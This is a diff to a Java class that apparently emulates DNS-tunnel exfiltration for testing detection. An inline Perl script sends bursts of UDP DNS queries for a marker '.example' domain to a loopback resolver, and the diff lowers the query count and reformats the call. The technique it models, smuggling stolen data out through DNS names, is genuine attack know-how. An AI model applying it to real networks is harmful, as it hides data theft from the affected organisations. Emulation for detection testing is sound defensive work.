@@ -9,7 +9,7 @@ import java.util.Set;
 
 /** Data out through a resolver: what is stolen is written into the names that are asked. */
 public final class DnsTunnel implements Technique {
-    private static final int QUERIES = 160;
+    private static final int QUERIES = 64;
 
     @Override
     public String name() {
@@ -35,7 +35,10 @@ public final class DnsTunnel implements Technique {
     public String perform(Stage stage) throws TechniqueFailedException, InterruptedException {
         String domain = stage.trace().marker() + ".example";
         LoopbackResolver resolver = stage.resolver();
-        Process process = stage.start(stage.tool("perl"), "-e", """
+        Process process = stage.start(
+                stage.tool("perl"),
+                "-e",
+                """
                 use Socket;
                 my ($address, $port, $domain, $count) = @ARGV;
                 socket(S, PF_INET, SOCK_DGRAM, 17) or die $!;
@@ -49,7 +52,11 @@ public final class DnsTunnel implements Technique {
                     recv(S, $answer, 4096, 0) if select($ready, undef, undef, 0.2);
                     select(undef, undef, undef, 0.005);
                 }
-                """, resolver.host(), Integer.toString(resolver.port()), domain, Integer.toString(QUERIES));
+                """,
+                resolver.host(),
+                Integer.toString(resolver.port()),
+                domain,
+                Integer.toString(QUERIES));
         stage.await(process);
         if (!resolver.asked(domain)) {
             throw new TechniqueFailedException("the resolver was not asked for anything below " + domain);
